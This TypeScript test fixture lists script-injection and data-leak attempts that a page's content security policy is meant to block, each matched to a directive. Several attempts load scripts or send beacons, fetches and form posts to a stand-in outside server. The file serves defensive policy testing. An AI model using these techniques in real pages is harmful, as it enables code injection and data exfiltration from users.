/** Something that a script in the page could try to get out, and the directive of the policy that has to stop it. */
export interface PageAttempt {
  readonly what: string;
  readonly directive: string;
  /** Runs in the page: it can use nothing of this file. `outside` and `trusted` are put on the window by the test. */
  readonly attempt: () => unknown;
}

declare global {
  interface Window {
    /** The address of a server that must never hear of the page. */
    readonly outside: string;
    /** A Trusted Types policy that lets everything pass, so that the policy's other directives are reached. */
    readonly trusted: {
      createHTML(text: string): string;
      createScript(text: string): string;
      createScriptURL(text: string): string;
    };
  }
}

const scripts: PageAttempt[] = [
  {
    what: 'evaluates a text',
    directive: 'script-src',
    // biome-ignore lint/security/noGlobalEval: this is what must not work
    attempt: () => globalThis.eval(window.trusted.createScript('window.broken = 1')),
  },
  {
    what: 'adds an inline script',
    directive: 'script-src-elem',
    attempt: () => {
      const script = document.createElement('script');
      script.text = window.trusted.createScript('window.broken = 1');
      document.head.append(script);
    },
  },
  {
    what: 'adds a script from elsewhere',
    directive: 'script-src-elem',
    attempt: () => {
      const script = document.createElement('script');
      script.src = window.trusted.createScriptURL(`${window.outside}/x.js`);
      document.head.append(script);
    },
  },
  {
    what: 'adds a script that it made itself',
    directive: 'script-src-elem',
    attempt: () => {
      const script = document.createElement('script');
      script.src = window.trusted.createScriptURL(URL.createObjectURL(new Blob(['window.broken = 1'])));
      document.head.append(script);
    },
  },
  {
    what: 'imports a module from a data: address',
    directive: 'script-src-elem',
    attempt: () => {
      const script = document.createElement('script');
      script.type = 'module';
      script.src = window.trusted.createScriptURL('data:text/javascript,window.broken=1');
      document.head.append(script);
    },
  },
  {
    what: 'adds an inline handler',
    directive: 'script-src-attr',
    attempt: () => {
      const image = document.createElement('img');
      image.setAttribute('onclick', window.trusted.createScript('window.broken = 1'));
      image.click();
    },
  },
  {
    what: 'starts a worker that it made itself',
    directive: 'worker-src',
    attempt: () => new Worker(window.trusted.createScriptURL(URL.createObjectURL(new Blob(['1'])))),
  },
];

/** One of the places that take a text as code: the directive is about all of them. */
const sink: PageAttempt = {
  what: 'sets innerHTML',
  directive: 'require-trusted-types-for',
  attempt: () => {
    document.createElement('div').innerHTML = '<b>x</b>';
  },
};

const looks: PageAttempt[] = [
  {
    what: 'adds a style without the nonce',
    directive: 'style-src-elem',
    attempt: () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'body{}' })),
  },
  {
    what: 'adds a style sheet from elsewhere',
    directive: 'style-src-elem',
    attempt: () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${window.outside}/x.css` }),
      ),
  },
  {
    what: 'sets a style attribute',
    directive: 'style-src-attr',
    attempt: () => document.createElement('p').setAttribute('style', 'color: red'),
  },
  {
    what: 'shows a picture from elsewhere',
    directive: 'img-src',
    attempt: () => Object.assign(new Image(), { src: `${window.outside}/x.png` }),
  },
  {
    what: 'shows a picture that it made itself',
    directive: 'img-src',
    attempt: () => Object.assign(new Image(), { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }),
  },
  {
    what: 'loads a font from elsewhere',
    directive: 'font-src',
    attempt: () => new FontFace('x', `url(${window.outside}/x.woff2)`).load(),
  },
  {
    what: 'plays a sound from elsewhere',
    directive: 'media-src',
    attempt: () => Object.assign(new Audio(), { src: `${window.outside}/x.mp3` }).load(),
  },
];

const connections: PageAttempt[] = [
  { what: 'fetches', attempt: () => fetch(`${window.outside}/x`) },
  { what: 'fetches a file of its own', attempt: () => fetch('index.html') },
  { what: 'sends a beacon', attempt: () => navigator.sendBeacon(`${window.outside}/x`, 'x') },
  { what: 'opens a web socket', attempt: () => void new WebSocket(window.outside.replace('http', 'ws')) },
  { what: 'opens an event source', attempt: () => void new EventSource(`${window.outside}/x`) },
].map((one) => ({ ...one, directive: 'connect-src' }));

const frames: PageAttempt[] = [
  {
    what: 'sends a form',
    directive: 'form-action',
    attempt: () => {
      const form = Object.assign(document.createElement('form'), { action: `${window.outside}/x`, method: 'post' });
      document.body.append(form);
      form.submit();
      form.remove();
    },
  },
  {
    what: 'moves the base of its addresses',
    directive: 'base-uri',
    attempt: () => document.head.append(Object.assign(document.createElement('base'), { href: window.outside })),
  },
  {
    what: 'frames another page',
    directive: 'frame-src',
    attempt: () => document.body.append(Object.assign(document.createElement('iframe'), { src: window.outside })),
  },
  {
    what: 'embeds an object',
    directive: 'object-src',
    attempt: () =>
      document.body.append(
        Object.assign(document.createElement('embed'), {
          type: 'text/html',
          src: window.trusted.createScriptURL(`${window.outside}/x.swf`),
        }),
      ),
  },
];

/** One attempt for each way out that the content security policy closes (promise S3). */
export const pageAttempts: readonly PageAttempt[] = [...scripts, sink, ...looks, ...connections, ...frames];
